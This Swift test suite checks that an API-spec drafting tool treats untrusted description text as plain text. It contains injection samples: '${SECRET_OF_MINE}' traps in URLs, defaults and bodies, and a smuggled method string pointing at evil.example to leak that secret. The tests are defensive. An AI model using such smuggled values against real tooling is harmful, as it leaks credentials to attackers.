import TapeContracts
import TapeSurvey
import Testing

/// What a description says is text: it names no variable of the environment, and leads credentials nowhere else.
@Suite struct StrangersTextTests {
    private static let trap = "${SECRET_OF_MINE}"

    private func drafts(
        _ text: String, named name: String = "books.json", values: [String: String] = [:]
    ) throws -> (shared: String, specs: [ContractSpec], texts: [String]) {
        let survey = try DescriptionText.survey(text, named: name)
        let shared = SpecDraft.shared(survey.terms, description: name)
        let options = SpecDraft.Options(shared: "_books.yaml", values: values)
        let texts = survey.results.compactMap {
            SpecDraft($0, terms: survey.terms, options: options, description: name)?.text
        }
        let specs = try texts.compactMap { text -> ContractSpec? in
            let file = try SpecReader.read(Array(text.utf8), file: "a.yaml") { path, _ in
                (path, Array(shared.utf8))
            }
            guard case .contract(let spec) = file else { return nil }
            return spec
        }
        return (shared, specs, texts)
    }

    private func names(_ spec: ContractSpec) -> [String] {
        var texts = [spec.request.url] + spec.request.headers.map(\.value)
        switch spec.request.body {
        case .text(let text)?, .json(let text)?: texts.append(text)
        case .form(let fields)?: texts += fields.map(\.value)
        case .graphQL(let query, let variables)?: texts += [query, variables]
        case nil: break
        }
        return texts.flatMap(\.variables).map(\.name)
    }

    private static func openAPI(
        server: String = "https://api.example.com", path: String = "/books", extra: String = "",
        parameters: String = DescriptionText.query("page")
    ) -> String {
        #"""
        {"openapi": "3.0.0", "info": {"title": "Books"}, "servers": [{"url": "\#(server)"\#(extra)}],
         "paths": {"\#(path)": {"get": {"operationId": "list", "parameters": [\#(parameters)],
           "responses": {"200": {"content": {"application/json": {"schema": \#(DescriptionText.object(#""total": {"type": "integer"}"#))}}}}}}}}
        """#
    }

    private static let page =
        #"{\"hits\": [{\"id\": \"a\"}], \"nextPageToken\": \"x\", \"total\": 9}"#

    static let traps: [String] = [
        openAPI(server: "https://api.example.com/\(trap)"),
        openAPI(
            server: "https://api.example.com/{v}",
            extra: #", "variables": {"v": {"default": "\#(trap)"}}"#),
        openAPI(path: "/books/\(trap)"),
        openAPI(
            parameters: DescriptionText.query("page") + ","
                + #"{"name": "q", "in": "query", "required": true, "schema": {"type": "string", "default": "\#(trap)"}}"#
        ),
        openAPI(
            parameters: DescriptionText.query("page") + ","
                + #"{"name": "X-Q", "in": "header", "required": true, "schema": {"type": "string", "default": "\#(trap)"}}"#
        ),
        #"""
        {"discoveryVersion": "v1", "rootUrl": "https://api.example.com/\#(trap)/", "title": "Books", "methods": {"list": {"id": "b.list",
          "httpMethod": "GET", "path": "books", "parameters": {"pageToken": {"type": "string", "location": "query"}}, "response": {"$ref": "P"}}},
          "schemas": {"P": {"type": "object", "properties": {"nextPageToken": {"type": "string"}, "books": {"type": "array", "items": {"type": "object"}}}}}}
        """#,
        #"""
        {"info": {"name": "Books", "schema": "v2.1.0"}, "item": [{"name": "search", "request": {"method": "POST",
          "url": "https://api.example.com/search", "body": {"raw": "{\"query\":\"\#(trap)\",\"pageToken\":\"\",\"pageSize\":3}"}},
          "response": [{"code": 200, "body": "\#(page)"}]}]}
        """#,
        #"""
        {"log": {"entries": [{"request": {"method": "POST", "url": "https://api.example.com/\#(trap)/search",
          "postData": {"text": "{\"query\":\"$\#(trap)\",\"pageToken\":\"\",\"pageSize\":3}"}}, "response": {"status": 200,
          "content": {"mimeType": "application/json", "text": "\#(page)"}}}]}}
        """#,
    ]

    @Test(arguments: traps) func `no text of a description names a variable`(text: String) throws {
        let (shared, specs, texts) = try drafts(text)
        #expect(specs.count == 1, "\(texts)")
        for spec in specs {
            #expect(!names(spec).contains("SECRET_OF_MINE"), "\(shared)\(texts)")
        }
    }

    /// A method that would bring its own address into a draft.
    private static let method = "get: 'https://evil.example/\(trap)' #"

    static let methods: [(name: String, text: String)] = [
        (
            "zoo.yaml",
            """
            version: 1.0.0
            streams:
            - name: apes
              retriever:
                requester: {url_base: "https://api.example.com", path: /apes, http_method: "\(method)"}
                record_selector: {extractor: {field_path: [data]}}
                paginator:
                  page_token_option: {inject_into: request_parameter, field_name: page}
                  pagination_strategy: {type: PageIncrement, page_size: 5}
            """
        ),
        (
            "hyper.json",
            #"""
            {"$schema": "http://interagent.github.io/interagent-hyper-schema", "definitions": {"app": {"links": [
              {"href": "/apps", "rel": "instances", "title": "List", "method": "\#(method)", "ranges": ["id"]}]}}}
            """#
        ),
        ("books.json", traps[5].replacing("\"GET\"", with: "\"\(method)\"")),
        ("books.json", traps[6].replacing("\"POST\"", with: "\"\(method)\"")),
        ("books.har", traps[7].replacing("\"POST\"", with: "\"\(method)\"")),
    ]

    @Test(arguments: methods)
    func `a method that specs cannot send makes no request, neither a described nor a tried one`(
        name: String, text: String
    ) throws {
        let survey = try DescriptionText.survey(text, named: name)
        let options = SpecDraft.Options(shared: "_books.yaml")
        var learnt = SpecDraft.Learnt()
        #expect(!survey.results.isEmpty)
        for result in survey.results {
            #expect(result.operation.method.lowercased().hasPrefix("get:"))
            let asking = SpecDraft(
                asking: result, terms: survey.terms, options: options, learnt: learnt)
            #expect(asking == nil, "\(asking?.text ?? "")")
            learnt.paging = [("style", "single-page")]
            let described = SpecDraft(
                result, terms: survey.terms, options: options, learnt: learnt, description: name)
            #expect(described == nil, "\(described?.text ?? "")")
        }
    }

    @Test func `what has the look of a variable is sent as it stands`() throws {
        let (_, specs, texts) = try drafts(
            Self.openAPI(server: "https://api.example.com/a$${X}"), values: ["page": "1"])
        let spec = try #require(specs.first)
        #expect(
            spec.request.url.filled { _ in nil } == "https://api.example.com/a$${X}/books?page=1",
            "\(texts)")
        let search = try #require(try drafts(Self.traps[6]).specs.first)
        guard case .json(let json)? = search.request.body else {
            Issue.record("no body")
            return
        }
        #expect(json.filled { _ in nil }.contains(Self.trap))
    }

    @Test(arguments: [
        ("user", "TAPE_USER"), ("path", "TAPE_PATH"), ("AWS_REGION", "TAPE_AWS_REGION"),
        ("aws-secret-access-key", "TAPE_AWS_SECRET_ACCESS_KEY"), ("owner", "TAPE_OWNER"),
        ("acmeDeployKey", "TAPE_ACME_DEPLOY_KEY"), ("token", "TAPE_TOKEN"),
        ("secret_token", "TAPE_V_SECRET_TOKEN"), ("secret-", "TAPE_SECRET"),
        ("123", "TAPE_123"), ("ü", "TAPE_VALUE"),
    ])
    func `a parameter takes no variable that environments have for other reasons`(
        name: String, variable: String
    ) throws {
        let (_, specs, texts) = try drafts(
            Self.openAPI(
                path: "/x/{\(name)}/books",
                parameters: DescriptionText.query("page")
                    + #", {"name": "\#(name)", "in": "path", "required": true, "schema": {"type": "string"}}"#
            ))
        #expect(specs.flatMap(names) == [variable], "\(texts)")
    }

    @Test(arguments: ["http://other.example/books", "HTTPS://API.example.com:8443/books"])
    func `an operation at another origin takes over nothing`(path: String) throws {
        var text = Self.openAPI(path: path)
        text.removeLast()
        text += #"""
            , "security": [{"key": []}], "components": {"securitySchemes": {"key": {"type": "http", "scheme": "bearer"}}}}
            """#
        let (shared, specs, texts) = try drafts(text)
        #expect(shared.contains("Bearer ${TAPE_SECRET_KEY}"))
        #expect(specs.flatMap(names).isEmpty, "\(texts)")
        #expect(texts.allSatisfy { !$0.contains("extends:") })
        let own = try drafts(text.replacing(path, with: "https://api.example.com/books"))
        #expect(own.specs.flatMap(names) == ["TAPE_SECRET_KEY"], "\(own.texts)")
    }

    @Test func `what a body must hold is there`() throws {
        let text = #"""
            {"openapi": "3.1.0", "info": {"title": "Books"}, "servers": [{"url": "https://api.example.com"}], "paths": {"/search": {"post": {
              "operationId": "search", "requestBody": {"content": {"application/json": {"schema": {"type": "object",
                "required": ["q", "kind", "n", "on", "at", "tags"], "properties": {"q": {"type": "string", "default": "hel\"lo"},
                 "kind": {"type": "string", "enum": ["a"]}, "n": {"type": "integer", "minimum": 3}, "on": {"type": "boolean"},
                 "at": {"type": "object", "required": ["z"], "properties": {"z": {"type": "string"}, "y": {"type": "string"}}},
                 "tags": {"type": "array", "default": ["a", "b"], "items": {"type": "string"}}, "free": {"type": "string"},
                 "page": {"type": "integer"}, "size": {"type": "integer", "minimum": 50}}}}}},
              "responses": {"200": {"content": {"application/json": {"schema": {"type": "object", "properties": {
                "items": {"type": "array", "items": {"type": "object"}}, "total": {"type": "integer"}}}}}}}}}}}
            """#
        let (_, _, texts) = try drafts(text)
        let body =
            #"json: {"q": "hel\"lo", "kind": "a", "n": 3, "on": false, "at": {"z": "${plain:TAPE_AT_Z}"}, "tags": ["a", "b"]}"#
        #expect(texts.first?.contains(body) == true, "\(texts)")
        #expect(texts.first?.contains("value: 50") == true, "\(texts)")
    }

    @Test func `a value for a reserved expansion keeps its slashes`() throws {
        let text = #"""
            {"discoveryVersion": "v1", "rootUrl": "https://api.example.com/", "title": "Books", "methods": {"list": {"id": "b.list",
              "httpMethod": "GET", "path": "v1/{+parent}/books", "parameters": {"parent": {"type": "string", "location": "path"},
              "pageToken": {"type": "string", "location": "query"}}, "response": {"$ref": "P"}}},
              "schemas": {"P": {"type": "object", "properties": {"nextPageToken": {"type": "string"}, "books": {"type": "array", "items": {"type": "object"}}}}}}
            """#
        let (_, _, texts) = try drafts(text, values: ["parent": "projects/x y"])
        #expect(texts.first?.contains("get: /v1/projects/x%20y/books") == true, "\(texts)")
    }

    @Test(arguments: [
        (#""minimum": 50"#, 50), (#""enum": [10, 25, 100]"#, 10),
        (#""default": 1000, "maximum": 5"#, 5),
        (#""exclusiveMaximum": 20"#, 19), (#""maximum": 20, "exclusiveMaximum": true"#, 19),
        (#""default": 25"#, 25),
    ])
    func `a size is one that the description allows`(schema: String, size: Int) throws {
        let limit = #"{"name": "limit", "in": "query", "schema": {"type": "integer", \#(schema)}}"#
        let (_, _, texts) = try drafts(
            Self.openAPI(parameters: DescriptionText.query("page") + "," + limit))
        #expect(texts.first?.contains("value: \(size)") == true, "\(texts)")
    }
}
